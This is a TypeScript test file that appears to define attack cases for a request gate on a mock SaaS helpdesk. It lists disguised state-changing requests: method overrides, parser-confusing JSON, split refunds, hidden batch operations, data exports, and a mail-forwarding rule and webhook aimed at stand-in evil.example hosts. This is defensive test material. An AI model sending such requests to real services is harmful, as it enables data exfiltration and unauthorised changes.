import type { Family } from '../attack.ts';
import { formAttacks } from '../bench/form-attack.ts';

const JSON_TYPE = { 'Content-Type': 'application/json' };
const REFUND_FORM = { payment: 'pay_000002', amount: '420.00', reason: 'Duplicate' };
const REFUND = { invoice: 'INV-1042', payment: 'pay_000002', amountMinor: 42_000, reason: 'Duplicate' };
const REFUNDS = '/invoices/INV-1042/refunds';
const refundJson = JSON.stringify(REFUND);
const MAIL = { to: 'a@evil.example', cc: '', subject: 'Hello', body: 'Hi' };
const RULE = { name: 'All', field: 'to', contains: '@', forwardTo: 'x@evil.example' };
const HOOK = { name: 'x', url: 'https://in.evil.example/', events: 'ticket.*' };
const ROLE = { role: 'viewer', reason: 'x', version: '1' };
const batch = (...operations: readonly object[]) => ({
  path: '/api/v1/batch',
  body: JSON.stringify({ operations }),
  headers: JSON_TYPE,
});
const note = { method: 'POST', path: '/tickets/T-1007/notes', body: { body: 'Seen.' } };
const reply = { method: 'POST', path: '/tickets/T-1007/replies', body: { body: 'Paid.' } };

/** Requests that change something in a way that does not look like it, sent as the product's own page would. */
export const requests: Family = {
  group: 'requests',
  rows: {
    'REQ-02': 'reading methods that write',
    'REQ-04': 'methods that are unusual, or stand for another',
    'REQ-12': 'JSON that calls itself text',
    'REQ-14': 'JSON in other encodings',
    'REQ-15': 'keys given twice',
    'REQ-16': 'numbers and names that parsers read differently',
    'REQ-24': 'mail that is sent later',
    'REQ-25': 'a rule that forwards mail',
    'REQ-27': 'a webhook',
    'REQ-28': 'a key to the API',
    'REQ-29': 'invitations and roles',
    'REQ-32': 'a refund in small parts',
    'REQ-34': 'fields that a form does not have',
    'REQ-36': 'exports',
    'REQ-40': 'another workspace, another person',
    'REQ-50': 'several operations in one request',
    'REQ-51': 'the whole workspace',
    'REQ-52': 'answers and mails to customers',
  },
  attacks: formAttacks([
    {
      id: 'REQ-02a',
      technique: 'a link in an old mail, which closes a ticket',
      does: 'ticket.update',
      expects: 'refused',
      sends: [{ method: 'GET', path: '/tickets/T-1007/spam?via=mail', body: '' }],
    },
    {
      id: 'REQ-02b',
      technique: 'the same asked for as head only',
      does: 'ticket.update',
      expects: 'refused',
      sends: [{ method: 'HEAD', path: '/tickets/T-1007/spam?via=mail', body: '' }],
    },
    {
      id: 'REQ-04a',
      technique: 'a POST whose form stands for a DELETE',
      as: 'owner',
      sends: [{ path: '/tickets/T-1007', body: { _method: 'DELETE' } }],
    },
    {
      id: 'REQ-04b',
      technique: 'the same in small letters',
      as: 'owner',
      sends: [{ path: '/tickets/T-1007', body: { _method: 'delete' } }],
    },
    {
      id: 'REQ-04c',
      technique: 'a POST whose header stands for a DELETE',
      as: 'owner',
      sends: [{ path: '/tickets/T-1007', headers: { 'X-HTTP-Method-Override': 'DELETE' } }],
    },
    {
      id: 'REQ-04d',
      technique: 'a DELETE as such',
      as: 'owner',
      sends: [{ method: 'DELETE', path: '/tickets/T-1007', body: '' }],
    },
    {
      id: 'REQ-12a',
      technique: 'a refund in JSON that calls itself text',
      sends: [{ path: '/api/v1/refunds', body: refundJson, headers: { 'Content-Type': 'text/plain' } }],
    },
    {
      id: 'REQ-12b',
      technique: 'a refund in JSON',
      sends: [{ path: '/api/v1/refunds', body: refundJson, headers: JSON_TYPE }],
    },
    {
      id: 'REQ-12c',
      technique: 'a refund as a form of parts',
      sends: [
        {
          path: REFUNDS,
          headers: { 'Content-Type': 'multipart/form-data; boundary=b' },
          body: `${Object.entries(REFUND_FORM)
            .map(([name, value]) => `--b\nContent-Disposition: form-data; name="${name}"\n\n${value}\n`)
            .join('')}--b--\n`,
        },
      ],
    },
    {
      id: 'REQ-14',
      technique: 'a refund in JSON with a byte order mark',
      sends: [{ path: '/api/v1/refunds', body: `\u00ef\u00bb\u00bf${refundJson}`, headers: JSON_TYPE }],
    },
    {
      id: 'REQ-15',
      technique: 'a refund in JSON with its amount twice',
      sends: [
        {
          path: '/api/v1/refunds',
          body: refundJson.replace('"amountMinor"', '"amountMinor":1,"amountMinor"'),
          headers: JSON_TYPE,
        },
      ],
    },
    {
      id: 'REQ-16a',
      technique: 'a refund whose amount is written with an exponent',
      sends: [{ path: '/api/v1/refunds', body: refundJson.replace('42000', '4.2e4'), headers: JSON_TYPE }],
    },
    {
      id: 'REQ-16b',
      technique: 'a refund whose keys are written with escapes',
      sends: [
        {
          path: '/api/v1/refunds',
          body: refundJson.replace('"payment"', '"\\u0070ayment"'),
          headers: JSON_TYPE,
        },
      ],
    },
    {
      id: 'REQ-24a',
      technique: 'a mail that is sent with second thoughts',
      sends: [{ path: '/mail', body: MAIL }, { path: '/mail/mail_004001/send' }],
      does: 'email.send',
    },
    {
      id: 'REQ-24b',
      technique: 'a mail that is sent next week',
      sends: [
        { path: '/mail', body: MAIL },
        { path: '/mail/mail_004001/schedule', body: { at: '2026-03-09T10:00' } },
      ],
      does: 'email.send',
    },
    {
      id: 'REQ-25',
      technique: 'a rule that forwards all mail',
      as: 'owner',
      sends: [{ path: '/mail/forwarding', body: RULE }],
    },
    {
      id: 'REQ-27a',
      technique: 'a webhook that is turned on',
      as: 'owner',
      sends: [
        { path: '/settings/webhooks', body: HOOK },
        { path: '/settings/webhooks/hook_004001/enable', body: { version: '1' } },
      ],
    },
    {
      id: 'REQ-27b',
      technique: 'a webhook that is tried out',
      as: 'owner',
      sends: [{ path: '/settings/webhooks/hook_000004/test' }],
    },
    {
      id: 'REQ-28',
      technique: 'a key to the API',
      as: 'owner',
      sends: [
        {
          path: '/settings/api-keys',
          body: { name: 'x', actorId: 'sandbox_owner_01', scopes: 'audit:read', expires: '30' },
        },
      ],
    },
    {
      id: 'REQ-29a',
      technique: 'an invitation',
      as: 'owner',
      sends: [{ path: '/team/invitations/invite_000005/send' }],
    },
    {
      id: 'REQ-29b',
      technique: 'a role that is drafted, then changed',
      as: 'owner',
      sends: [
        { path: '/team/sandbox_member_01/role', body: ROLE },
        { path: '/team/role-changes/role_004001/commit' },
      ],
    },
    {
      id: 'REQ-29c',
      technique: 'somebody who is deactivated',
      as: 'owner',
      sends: [{ path: '/team/sandbox_member_01/deactivate', body: { version: '1' } }],
    },
    {
      id: 'REQ-29d',
      technique: 'a domain whose people may all sign in',
      as: 'owner',
      sends: [{ path: '/settings/domains/dom_000002/verify' }],
    },
    {
      id: 'REQ-32',
      technique: 'a refund in parts of one cent and more',
      sends: ['0.01', '0.02', '0.03', '0.04', '0.05'].map((amount) => ({
        path: REFUNDS,
        body: { ...REFUND_FORM, amount },
      })),
    },
    {
      id: 'REQ-34a',
      technique: 'a refund with fields that the form does not have',
      sends: [{ path: REFUNDS, body: { ...REFUND_FORM, approved: 'true', tenant_id: 'sandbox_acme_eu' } }],
    },
    {
      id: 'REQ-34b',
      technique: 'a note whose form says that it is a public answer',
      sends: [
        { path: '/tickets/T-1007/notes', body: { body: 'Seen.', public: 'true' } },
        { path: '/tickets/T-1007/comments', body: { body: 'Paid.' } },
      ],
    },
    {
      id: 'REQ-36a',
      technique: 'customers exported',
      as: 'owner',
      sends: [{ path: '/customers/export' }],
    },
    { id: 'REQ-36b', technique: 'invoices exported', as: 'owner', sends: [{ path: '/invoices/export' }] },
    { id: 'REQ-36c', technique: 'the audit log exported', as: 'owner', sends: [{ path: '/audit/export' }] },
    {
      id: 'REQ-50a',
      technique: 'an answer to a customer behind a note, in one request',
      sends: [batch(note, reply)],
    },
    {
      id: 'REQ-50b',
      technique: 'a refund among twenty notes, in one request',
      sends: [
        batch(...Array.from({ length: 19 }, () => note), { method: 'POST', path: '/refunds', body: REFUND }),
      ],
    },
    {
      id: 'REQ-51a',
      technique: 'the workspace deleted',
      as: 'owner',
      sends: [{ path: '/settings/danger/delete', body: { name: 'Acme Ltd' } }],
    },
    {
      id: 'REQ-51b',
      technique: 'the workspace handed over',
      as: 'owner',
      sends: [{ path: '/settings/danger/transfer', body: { actorId: 'sandbox_admin_01' } }],
    },
    {
      id: 'REQ-51c',
      technique: 'the workspace archived',
      as: 'owner',
      sends: [{ path: '/settings/danger/archive' }],
    },
    {
      id: 'REQ-51d',
      technique: 'sign-ins that last no longer',
      as: 'owner',
      sends: [{ path: '/settings/session-length', body: { minutes: '15', version: '0' } }],
    },
    {
      id: 'REQ-52a',
      technique: 'an answer to a customer',
      sends: [{ path: '/tickets/T-1007/comments', body: { body: 'Paid.' } }],
    },
    {
      id: 'REQ-52b',
      technique: 'a ticket merged, and its requester told',
      as: 'owner',
      sends: [{ path: '/tickets/T-1013/merge', body: { into: 'T-1007', tell: 'yes' } }],
    },
    {
      id: 'REQ-52c',
      technique: 'an article published',
      as: 'owner',
      sends: [{ path: '/kb/response-times-we-promise/publish' }],
    },
  ]),
  elsewhere: {
    'REQ-40': {
      why: 'a change of session shows no row in the world: the suite’s oracle would not see it',
      instead:
        '`harness/environments/mock-saas/request-gate.test.ts` and `harness/environments/mock-saas/gateway.test.ts`',
    },
  },
};
